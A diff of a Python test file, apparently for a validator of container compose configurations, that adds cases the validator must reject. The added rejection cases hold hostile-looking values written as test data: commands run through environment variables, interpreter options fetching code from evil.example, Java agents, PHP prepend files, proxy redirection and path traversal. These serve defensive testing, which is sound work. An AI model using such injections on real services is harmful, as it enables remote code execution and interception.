@@ -35,12 +35,16 @@ ALLOWED: Final = {
     "one image": BOT,
     "a service of one letter": BOT.replace("bot:", "b:", 1),
     "an image of a short name": f"services: {{bot: {{image: 'bot{DIGEST}'}}}}\n",
-    "arguments": service("command: [run, --verbose, '--file=/data/a,b', -x]"),
-    "options alone": service("command:", "  - --port=80", "  - -v"),
+    "arguments": service("command: [run, --verbose, '--host=0.0.0.0', '--socket=/run/x/y']"),
+    "options alone": service("command:", "  - --port=80", "  - --log-level=info"),
     "settings": service("environment:", "  A: b c", '  B: ""', "  C: https://example.org/?a=b"),
     "settings as a list": service("environment:", "  - A=b c", "  - B="),
+    "settings of others": service(
+        "environment:", "  MODE: fast", "  TOPICS: 'a, b: c'", "  API_URL: https://example.org/?a=b"
+    ),
     "a server of tools": service(
         "environment:",
+        "  MCP__SERVERS__NOTES_2__TIMEOUT_SECONDS: '5'",
         "  MCP__SERVERS__NOTES__URL: http://notes:8080/mcp",
         "  MCP__SERVERS__NOTES__TOKEN: ${LLM__API_KEY}",
         "  STORE__PATH: /var/lib/signal-tee-bot/conversations.db",
@@ -304,6 +308,30 @@ TRICKS: Final = {
         "environment: {MCP__SERVERS__X__COMMAND: mcp-notes}"
     ),
     "a server of tools from data": service("environment: {MCP__SERVERS__X__COMMAND: /data/x}"),
+    "a server of tools as JSON": service(
+        """environment: {MCP__SERVERS__X: '{"command": "sh -c true"}'}"""
+    ),
+    "servers of tools as JSON": service(
+        """environment: {MCP__SERVERS: '{"x": {"command": "sh"}}'}"""
+    ),
+    "a server of tools with an unknown setting": service(
+        "environment: {MCP__SERVERS__X__RUN: x}"
+    ),
+    "a script of an application": service("environment: {FLASK_APP: /data/x.py}"),
+    "a script of a folder by its home": service("environment: {SCRIPT: '~/x.py'}"),
+    "a script of the folder above": service("environment: {SCRIPT: ../data/x.py}"),
+    "files of a start": service("environment: {ZDOTDIR: /data}"),
+    "a file by its address": service("environment: {SOURCE_URL: 'file:///data/x'}"),
+    "options of a server": service("environment: {GUNICORN_CMD_ARGS: '--preload'}"),
+    "options by another name": service("environment: {SERVER: '--pythonpath=x'}"),
+    "a folder of libraries in one word": service("environment: {TCLLIBPATH: lib}"),
+    "commands of an editor": service("environment: {VIMINIT: ':!x'}"),
+    "a configuration that is fetched": service(
+        "environment: {LOGGING_CONFIG: 'https://evil.example/x'}"
+    ),
+    "somebody in between by another name": service(
+        "environment: {HTTP_PROXY_URL: 'http://evil.example'}"
+    ),
     "pins in a file": service("environment: {ATTESTATION__MODEL_PINS: /data/pins.json}"),
     # programs
     "an image by its tag": BOT.replace(DIGEST, ""),
@@ -343,6 +371,20 @@ TRICKS: Final = {
     "a program behind a subcommand": service("command: [run, lynx]"),
     "a subcommand behind an option": service("command: [-x, run]"),
     "an argument from a file": service("command: ['@/data/x']"),
+    "code in an option": service("command: ['--import=data:text/javascript,%66%28%29']"),
+    "code that is fetched by an option": service(
+        "command: ['--import=https://evil.example/x']"
+    ),
+    "a text for an interpreter": service("command: ['--eval=x']"),
+    "a module for an interpreter": service("command: [-mhttp.server]"),
+    "a package for a runner of packages": service("command: ['--package=evil', '--call=evil']"),
+    "a library of data by an option": service("command: ['--require=/data/x.js']"),
+    "an agent of Java by an option": service("command: ['-javaagent:/data/x.jar']"),
+    "a file before every page": service("command: ['-dauto_prepend_file=http://evil/x']"),
+    "a socket outside": service("command: ['--socket=/run/../x']"),
+    "a health check with more in it": service(
+        "healthcheck: {test: [CMD, {a: b}, signal-tee-bot, ready]}"
+    ),
     "a health check by another program": service("healthcheck: {test: [CMD, lynx]}"),
     "a program of a volume": service("command: [/data/x]"),
     "a program of a volume by a relative path": service("command: [data/x]"),
@@ -454,8 +496,11 @@ def test_a_problem_names_the_line_the_key_and_what_is_expected() -> None:
 # Generated files
 
 NAMES: Final = st.from_regex("[a-z][a-z0-9]{2,6}x", fullmatch=True)
-WORDS: Final = st.from_regex("--?[a-z]{1,8}(=[a-z0-9./:]{1,8})?", fullmatch=True)
+WORDS: Final = st.from_regex(
+    "--(host|port|transport|verbose)(=[a-z0-9][a-z0-9.:]{0,8})?", fullmatch=True
+)
 TEXTS: Final = st.text("abcXYZ019 ./:_#{}[],&*!|>@%-+=~'?`", max_size=20)
+OTHERS_TEXTS: Final = st.text("abcXYZ019 .:_#{}[],&*!|>@%+='?`", max_size=20)
 FOLDERS: Final = st.from_regex("/(data|var/lib|run|mnt)/[a-z]{2,8}", fullmatch=True).filter(
     lambda folder: not folder.startswith("/run/secrets")
 )
@@ -478,8 +523,9 @@ def services(draw: st.DrawFn, declared: list[str]) -> list[str]:
     lines = [f"image: {draw(NAMES)}/{draw(NAMES)}{DIGEST}"]
     if words := draw(st.lists(WORDS, max_size=3)):
         lines.append(f"command: [{', '.join(map(quoted, words))}]")
-    names = draw(st.lists(st.from_regex("[A-Z]{1,4}Q__[A-Z]{1,4}Q", fullmatch=True), unique=True))
-    settings = {name: quoted(draw(TEXTS)) for name in names}
+    names = draw(st.lists(st.from_regex("Q[A-Z]{1,4}Q", fullmatch=True), unique=True))
+    settings = {f"BOT__{name}": quoted(draw(TEXTS)) for name in names}
+    settings |= {name: quoted(draw(OTHERS_TEXTS)) for name in names}
     if draw(st.booleans()):
         settings["LLM__API_KEY"] = "${LLM__API_KEY}"
     if settings:
